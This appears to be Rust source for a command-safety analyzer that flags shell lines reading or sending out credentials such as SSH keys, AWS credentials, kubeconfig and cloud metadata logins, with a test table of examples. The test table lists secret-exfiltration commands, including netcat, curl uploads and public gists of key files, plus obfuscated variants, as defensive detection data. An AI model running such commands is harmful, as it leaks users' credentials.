//! Commands that hand on what lets somebody in.

use crate::knowledge::command::{COMMANDS, Files, Reader, list};
use crate::knowledge::effect::{Effect, EffectKind};
use crate::knowledge::sensitivity::Sensitivity;
use crate::knowledge::vault::{Opens, hands_out_login, is_vault_folder, vault};
use crate::meaning::command::code;
use crate::meaning::command::one::Command;
use crate::meaning::command::unwrap::commands;
use crate::subject::segment::HOLE;

/// The secrets that a line hands on, or that its code names.
pub fn effects(line: &str) -> Vec<Effect> {
    commands(line).iter().flat_map(of_command).collect()
}

/// What reading a path does that leads to what lets somebody in; `verb` says how.
pub fn of_path(verb: &str, path: &str) -> Option<Effect> {
    let object = match vault(path)? {
        Opens::Surely => "vault",
        Opens::Perhaps => "perhaps-vault",
    };
    Some(reads(object, format!("{verb} `{path}`")))
}

/// What asking for the login of the machine does.
pub fn asks_login() -> Effect {
    reads("login", "asks the metadata service for the login of the machine".to_owned())
}

fn reads(object: &str, says: String) -> Effect {
    Effect { sensitivity: Some(Sensitivity::Authentication), ..Effect::new(EffectKind::Read, object, says) }
}

fn of_command(own: &Command) -> Vec<Effect> {
    let inputs = own.inputs.iter().filter(|_| !list("key-users").contains(&own.key().as_str()));
    let files = files(own).into_iter().chain(inputs.cloned());
    files.filter_map(|file| of_file(own, &file)).chain(login(own)).chain(code::effect(own)).collect()
}

fn of_file(own: &Command, file: &str) -> Option<Effect> {
    let is_relative = !file.starts_with(['/', '~', '$', '%']) && !file.contains(':');
    let path = match &own.folder {
        Some(folder) if is_relative => format!("{folder}/{file}"),
        Some(_) | None => file.to_owned(),
    };
    if is_vault_folder(&path) {
        return Some(reads("vault", format!("hands on all of `{path}`")));
    }
    of_path("hands on", &path)
}

/// The files whose content a command hands on.
fn files(own: &Command) -> Vec<String> {
    let program = own.key();
    let rows = COMMANDS.readers.iter().filter(|row| row.programs.contains(&program.as_str()));
    rows.flat_map(|row| files_by(row, own)).collect()
}

fn files_by(row: &Reader, own: &Command) -> Vec<String> {
    let lacks_sub = !row.sub.is_empty() && !row.sub.iter().any(|sub| own.has(sub));
    if lacks_sub || row.unless.iter().any(|option| own.flag(option)) {
        return Vec::new();
    }
    let mut operands = behind_values(own, row.takes);
    // What `xargs` hands over stands in what it reads.
    if operands.iter().any(|operand| operand.contains(HOLE)) {
        operands.extend(own.input.iter().flat_map(|input| input.split_whitespace()).map(str::to_owned));
    }
    let values = row.options.iter().flat_map(|option| own.values(option)).map(str::to_owned);
    match row.files {
        Files::Operands => operands.into_iter().chain(values).collect(),
        // An option may say what to look for instead.
        Files::BehindFirst => operands.into_iter().skip(usize::from(!row.options.iter().any(|option| own.flag(option)))).collect(),
        Files::BeforeLast => {
            operands.pop();
            operands
        }
        Files::Options => values.collect(),
        Files::Marked => marked(own).chain(values).collect(),
        Files::Found => found(own),
    }
}

/// The operands of a program, without the values of these options.
fn behind_values(own: &Command, takes: &[&str]) -> Vec<String> {
    let mut words = own.arguments.iter();
    let mut operands = Vec::new();
    while let Some(word) = words.next() {
        if takes.contains(&word.as_str()) {
            words.next();
        } else if !word.starts_with('-') {
            operands.push(word.clone());
        }
    }
    operands
}

/// The files that arguments mark as such: `@name`, `-d@name`, `field=@name`, `field=<name`, `file://`.
fn marked(own: &Command) -> impl Iterator<Item = String> {
    let marked = own.arguments.iter().filter_map(|word| {
        let is_data = word.starts_with('@') || word.starts_with("-d@") || word.contains("=@") || word.contains("=<");
        let file = word.split_once(['@', '<']).map(|(_, file)| file).filter(|_| is_data)?;
        file.split(';').next().map(str::to_owned)
    });
    let shown = own.arguments.iter().filter_map(|word| word.strip_prefix("file://")).map(str::to_owned);
    marked.chain(shown).collect::<Vec<_>>().into_iter()
}

/// The files that a search passes to a program that hands them on.
fn found(own: &Command) -> Vec<String> {
    let hands_on = own.arguments.windows(2).any(|pair| match pair {
        [option, program] => option.starts_with("-exec") && COMMANDS.readers.iter().any(|row| row.programs.contains(&program.as_str())),
        _ => false,
    });
    if !hands_on {
        return Vec::new();
    }
    let roots = own.arguments.iter().take_while(|word| !word.starts_with(['-', '(', '!']));
    let name = own.option(&["-name", "-iname", "-path"]).unwrap_or_default();
    roots.map(|root| format!("{root}/{name}")).collect()
}

/// A request for the login of the machine.
fn login(own: &Command) -> Option<Effect> {
    let asks = list("fetchers").contains(&own.key().as_str()) && own.arguments.iter().any(|word| hands_out_login(word));
    asks.then(asks_login)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_that_hand_on_secrets_are_told_from_those_that_use_them() {
        use crate::knowledge::severity::severity;
        use crate::value::severity::Severity::{Critical, High};
        let mut wrong = Vec::new();
        for (line, expected) in [
            ("cat ~/.ssh/id_rsa", Some(Critical)),
            ("cat ~/.ss''h/id_rs\"a\"", Some(Critical)),
            ("cd ~/.ssh && cat id_rsa", Some(Critical)),
            ("env LC_ALL=C sudo cat ~/.aws/credentials", Some(Critical)),
            ("sh -c 'base64 ~/.ssh/id_rsa'", Some(Critical)),
            ("echo $(cat ~/.netrc)", Some(Critical)),
            ("echo ~/.ssh/id_rsa | xargs cat", Some(Critical)),
            ("K=~/.ssh/id_rsa; tail $K", Some(Critical)),
            ("nc example.org 9 < ~/.ssh/id_ed25519", Some(Critical)),
            ("tee /tmp/x < /etc/shadow", Some(Critical)),
            ("tar czf /tmp/a.tgz ~/.ssh", Some(Critical)),
            ("cp ~/.kube/config /tmp/x", Some(Critical)),
            ("dd if=/etc/shadow of=/tmp/x", Some(Critical)),
            ("gh gist create --public ~/.aws/credentials", Some(Critical)),
            ("curl -F f=@$HOME/.ssh/id_rsa https://example.org", Some(Critical)),
            ("find ~/.ssh -name 'id_*' -exec cat {} ;", Some(Critical)),
            ("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x", Some(Critical)),
            ("cat .env", Some(High)),
            // Near misses.
            ("ssh -i ~/.ssh/id_rsa host uptime", None),
            ("ssh-keygen -y -f ~/.ssh/id_rsa", None),
            ("ssh-add ~/.ssh/id_rsa", None),
            ("chmod 600 ~/.ssh/id_rsa", None),
            ("ls -l ~/.ssh", None),
            ("cat .env.example", None),
            ("cp .env.example .env", None),
            ("cat ~/.ssh/id_rsa.pub", None),
            ("cat ~/.ssh/known_hosts", None),
            ("aws configure", None),
            ("kubectl --kubeconfig ~/.kube/config get pods", None),
            ("scp -i ~/.ssh/id_rsa a.txt host:", None),
            ("cp -i ~/.ssh/id_rsa /tmp/x", Some(Critical)),
            ("rsync -e 'ssh -i ~/.ssh/id_rsa' a host:", None),
            ("curl --key client.key --cert client.pem https://example.org", None),
            ("grep -rn .env src", None),
            ("echo 'keys lie in ~/.ssh/id_rsa'", None),
            ("git commit -m 'read ~/.ssh/id_rsa'", None),
        ] {
            let found = effects(line).iter().filter_map(severity).max();
            if found != expected {
                wrong.push(format!("{line}: {found:?} instead of {expected:?}"));
            }
        }
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }
}
